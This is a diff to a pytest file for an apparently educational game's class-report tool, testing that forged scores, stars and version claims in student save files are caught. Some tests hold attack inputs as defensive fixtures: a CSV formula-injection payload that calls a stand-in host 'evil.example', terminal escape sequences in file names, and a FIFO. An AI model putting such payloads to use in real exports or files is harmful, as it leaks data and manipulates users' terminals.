@@ -6,6 +6,7 @@ from __future__ import annotations
 import csv
 import hashlib
 import io
+import os
 import subprocess
 import sys
 from pathlib import Path
@@ -13,12 +14,13 @@ from pathlib import Path
 import msgpack
 import pytest
 
+from capquest import classreport as report_module
+from capquest.classreport import CannotReplay, NotReproducible, Problem, Replayed
 from capquest.cli import main
-from capquest.saves import report as report_module
+from capquest.engine.version import ENGINE_VERSION
 from capquest.saves.envelope import encode
 from capquest.saves.export import read_export
-from capquest.saves.model import BestRun
-from capquest.saves.report import CannotReplay, NotReproducible, Replayed
+from capquest.saves.model import BestRun, ExportedLevel
 from capquest.saves.store import ProgressStore
 
 
@@ -34,8 +36,12 @@ class FakeReplay:
     def outcome(level_id: str, card: str | None, seed: int, assign: dict[str, str] | None = None) -> Replayed:
         key = f"{level_id}|{card}|{seed}|{sorted((assign or {}).items())}"
         value = int(hashlib.sha256(key.encode()).hexdigest()[:6], 16) % 1000
+        stars = min(3, value // 250)
         return Replayed(
-            score=float(value), digest=hashlib.sha256(key.encode()).hexdigest(), stars=min(3, value // 250)
+            score=float(value),
+            digest=hashlib.sha256(key.encode()).hexdigest(),
+            stars=stars,
+            passed=stars >= 1,
         )
 
     here_version: str | None = None  # the campaign's version on the teacher's machine (None: unknown)
@@ -49,9 +55,9 @@ class FakeReplay:
     def __call__(self, pack_id: str, level_id: str, run: BestRun) -> Replayed:
         FakeReplay.calls += 1
         if pack_id != "campaign":
-            raise CannotReplay(f"pack {pack_id!r} is not installed here")
+            raise CannotReplay(Problem("cannot_no_pack", (("pack", pack_id),)))
         if run.card == "no-such-card":
-            raise NotReproducible("level has no card 'no-such-card'")
+            raise NotReproducible(Problem("check_raw", (("text", "level has no card 'no-such-card'"),)))
         return self.outcome(level_id, run.card, run.seed, run.assign)
 
 
@@ -237,27 +243,99 @@ def test_report_flags_a_tampered_export_and_lists_broken_files(
     assert unreadable["truncated.capquest"].startswith("unreadable")
 
 
+def _level(run: BestRun | None, **claims: object) -> ExportedLevel:
+    """A level as an honest file holds it: the figures its best run gives, then `claims` changed."""
+    got = FakeReplay.outcome("flash-sale", run.card, run.seed) if run else None
+    honest = {
+        "stars": got.stars if got else 0,
+        "attempts": 1,
+        "best_score": got.score if got else None,
+        "passed": got.passed if got else False,
+        "best_run": run,
+    }
+    return ExportedLevel(**{**honest, **claims})
+
+
+def _status(level: ExportedLevel, pack: str = "campaign", **versions: str | None) -> str:
+    return report_module.check_level(pack, "flash-sale", level, FakeReplay(), **versions).status
+
+
 def test_claims_that_cannot_be_checked_or_cannot_be_true(
     tmp_path: Path, fake_engine: type[FakeReplay]
 ) -> None:
-    replay = FakeReplay()
     honest = FakeReplay.outcome("flash-sale", "cp-lock", 1)
-    run = BestRun(card="cp-lock", seed=1, score=honest.score, digest=honest.digest)
-    assert report_module.check_run("campaign", "flash-sale", honest.stars, run, replay).status == "reproduced"
-    assert report_module.check_run("other-pack", "x", 1, run, replay).status == "unverified"
-    bogus_card = run.model_copy(update={"card": "no-such-card"})
-    assert report_module.check_run("campaign", "flash-sale", 1, bogus_card, replay).status == "mismatch"
-    other_digest = run.model_copy(update={"digest": "0" * 64})
-    assert (
-        report_module.check_run("campaign", "flash-sale", honest.stars, other_digest, replay).status
-        == "mismatch"
+    run = BestRun(card="cp-lock", seed=1, score=honest.score, digest=honest.digest, engine=ENGINE_VERSION)
+    assert _status(_level(run)) == "reproduced"
+    assert _status(_level(run), pack="other-pack") == "unverified"
+    assert _status(_level(run.model_copy(update={"card": "no-such-card"}))) == "mismatch"
+    assert _status(_level(run.model_copy(update={"digest": "0" * 64}))) == "mismatch"
+    assert _status(_level(run, stars=3 if honest.stars < 3 else 2)) == "mismatch"
+    assert _status(_level(None, stars=2)) == "mismatch"
+    assert _status(_level(None, passed=True)) == "mismatch"
+    assert _status(_level(None, best_score=10.0)) == "mismatch"
+    assert _status(_level(None)) == "no_run"
+
+
+def test_every_figure_shown_is_the_re_simulated_one(fake_engine: type[FakeReplay]) -> None:
+    """Issue 11 (a) and (b): a best score of 999 beside an honest best run, and "passed" on a run that
+    earns no star, were shown as claimed and called reproduced."""
+    zero = next(
+        (seed, got)
+        for seed in range(1, 500)
+        if (got := FakeReplay.outcome("flash-sale", "cp-lock", seed)).stars == 0
     )
-    assert (
-        report_module.check_run("campaign", "flash-sale", 3 if honest.stars < 3 else 4, run, replay).status
-        == "mismatch"
+    seed, got = zero
+    run = BestRun(card="cp-lock", seed=seed, score=got.score, digest=got.digest, engine=ENGINE_VERSION)
+    inflated = _level(run, best_score=999.0)
+    passed = _level(run, passed=True)
+    for level in (inflated, passed):
+        check = report_module.check_level("campaign", "flash-sale", level, FakeReplay())
+        assert check.status == "mismatch"
+        row = report_module.Row("Eve", Path("eve.capquest"), "campaign", "flash-sale", level, check)
+        assert (row.best_score, row.stars, row.passed) == (got.score, 0, False)
+        assert not row.verified
+    assert "claims best score 999" in report_module.check_level(
+        "campaign", "flash-sale", inflated, FakeReplay()
+    ).detail("en")
+
+
+def test_a_claimed_version_never_makes_a_forged_run_count(fake_engine: type[FakeReplay]) -> None:
+    """Issue 11 (c): a `pack_versions` entry unlike the local one turned a forged run into "not
+    checked" while its stars still counted. The version is the student's claim: such a run is
+    unverified, shown as made on that version, and left out of the verified totals."""
+    honest = FakeReplay.outcome("flash-sale", "cp-lock", 1)
+    run = BestRun(card="cp-lock", seed=1, score=999.0, digest="0" * 64, engine=ENGINE_VERSION)
+    forged = _level(run, stars=3, best_score=999.0, passed=True)
+    check = report_module.check_level(
+        "campaign", "flash-sale", forged, FakeReplay(), pack_version_theirs="0.9", pack_version_ours="1.0"
     )
-    assert report_module.check_run("campaign", "flash-sale", 2, None, replay).status == "mismatch"
-    assert report_module.check_run("campaign", "flash-sale", 0, None, replay).status == "no_run"
+    assert check.status == "unverified"
+    assert "made on version 0.9 of the pack, unverified" in check.detail("en")
+    report = report_module.ClassReport(
+        rows=[report_module.Row("Eve", Path("e.capquest"), "campaign", "flash-sale", forged, check)],
+        students={"Eve": [Path("e.capquest")]},
+    )
+    totals = report.totals("Eve", Path("e.capquest"))
+    assert (totals.stars, totals.levels_passed, totals.unverified) == (0, 0, 1)
+    assert report.rows[0].stars == honest.stars  # what the run gives here, not the claimed 3
+    # another engine version, claimed: the same
+    other_engine = forged.model_copy(update={"best_run": run.model_copy(update={"engine": 99})})
+    check = report_module.check_level("campaign", "flash-sale", other_engine, FakeReplay())
+    assert check.status == "unverified" and "made on engine version 99" in check.detail("en")
+    # an honest run reproduces whatever version it claims
+    old = BestRun(card="cp-lock", seed=1, score=honest.score, digest=honest.digest, engine=None)
+    assert _status(_level(old), pack_version_theirs="0.9", pack_version_ours="1.0") == "reproduced"
+
+
+def test_a_run_that_cannot_be_re_simulated_counts_for_nothing(fake_engine: type[FakeReplay]) -> None:
+    run = BestRun(card="cp", seed=1, score=900.0, digest="a" * 64, engine=ENGINE_VERSION)
+    level = ExportedLevel(stars=3, attempts=4, best_score=900.0, passed=True, best_run=run)
+    check = report_module.check_level("unknown-pack", "x", level, FakeReplay())
+    assert check.status == "unverified" and "not installed" in check.detail("en")
+    row = report_module.Row("Eve", Path("e.capquest"), "unknown-pack", "x", level, check)
+    report = report_module.ClassReport(rows=[row], students={"Eve": [Path("e.capquest")]})
+    totals = report.totals("Eve", Path("e.capquest"))
+    assert (totals.stars, totals.levels_passed, totals.attempts, totals.unverified) == (0, 0, 4, 1)
 
 
 def test_report_with_nothing_to_read_is_a_usage_error(
@@ -334,14 +412,14 @@ def test_pack_replay_finds_the_level_and_calls_the_play_path(monkeypatch: pytest
         if card == "crash":
             raise RuntimeError("engine bug")
         return SimpleNamespace(
-            score=SimpleNamespace(score=512.0, stars=1), outcome=SimpleNamespace(digest="f" * 64)
+            score=SimpleNamespace(score=512.0, stars=1, passed=True), outcome=SimpleNamespace(digest="f" * 64)
         )
 
     play.run = fake_run
     replay = report_module.PackReplay(extra_packs=[pack])
     run = BestRun(card="cp-lock", assign={"orders": "cp-lock"}, seed=9, score=512.0, digest="f" * 64)
 
-    assert replay("my-pack", "flash-sale", run) == Replayed(512.0, "f" * 64, 1)
+    assert replay("my-pack", "flash-sale", run) == Replayed(512.0, "f" * 64, 1, True)
     assert calls == [(level, "cp-lock", 9, {"orders": "cp-lock"})]
     assert replay.level_order("my-pack") == ["intro", "flash-sale"]
     with pytest.raises(NotReproducible):
@@ -389,3 +467,66 @@ def test_a_run_that_fails_on_another_pack_version_accuses_no_one(
         bob = next(r for r in csv.DictReader(f) if r["student"] == "Bob")
     assert bob["check"] == "unverified"
     assert "checked on version 99.0" in bob["detail"] and "claims score 999" in bob["detail"]
+
+
+def test_a_formula_as_a_students_name_stays_text_in_the_csv(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fake_engine: type[FakeReplay]
+) -> None:
+    """Issue 11: a student named `=HYPERLINK(...)` landed in --csv as a formula."""
+    _honest_play(tmp_path / "eve", [("flash-sale", "cp-lock", 1, {})])
+    folder = tmp_path / "class"
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    assert _export(tmp_path / "eve", formula, folder / "eve.capquest", monkeypatch) == 0
+    out_csv = tmp_path / "class.csv"
+    assert main(["report", str(folder), "--csv", str(out_csv)]) == 0
+    with open(out_csv, encoding="utf-8-sig") as f:
+        (row,) = list(csv.DictReader(f))
+    assert row["student"] == "'" + formula
+    from capquest.cli.report import csv_cell
+
+    assert [csv_cell(v) for v in ("+1", "-x", "@SUM(A1)", "\tx", "Ada", -12.5)] == [
+        "'+1", "'-x", "'@SUM(A1)", "'\tx", "Ada", -12.5,
+    ]  # fmt: skip
+
+
+def test_the_csv_never_overwrites_an_export_it_reads(
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    fake_engine: type[FakeReplay],
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    folder = _class(tmp_path, monkeypatch)
+    bob = folder / "Bob.capquest"
+    before = bob.read_bytes()
+    for args in ([str(bob), "--csv", str(bob)], [str(folder), "--csv", str(bob)]):
+        capsys.readouterr()
+        assert main(["report", *args]) == 2
+        assert "one of the files being read" in capsys.readouterr().err
+        assert bob.read_bytes() == before
+
+
+def test_a_file_name_with_escape_codes_is_printed_escaped(
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    fake_engine: type[FakeReplay],
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """Issue 11: `report` printed a student's file name raw."""
+    folder = _class(tmp_path, monkeypatch)
+    (folder / "Bob.capquest").rename(folder / "\x1b]0;PWNED\x07.capquest")
+    (folder / "\x1b[2Jbroken.capquest").write_bytes(b"junk")
+    capsys.readouterr()
+    main(["report", str(folder)])
+    out = capsys.readouterr().out
+    assert "\x1b" not in out and "\x07" not in out
+    assert "\\x1b[2Jbroken.capquest" in out
+
+
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
+def test_a_pipe_handed_to_report_is_listed_not_read(
+    tmp_path: Path, fake_engine: type[FakeReplay], capsys: pytest.CaptureFixture[str]
+) -> None:
+    pipe = tmp_path / "pipe.capquest"
+    os.mkfifo(pipe)  # reading it waited forever for a writer
+    assert main(["report", str(pipe)]) == 1
+    assert "not a regular file" in capsys.readouterr().out
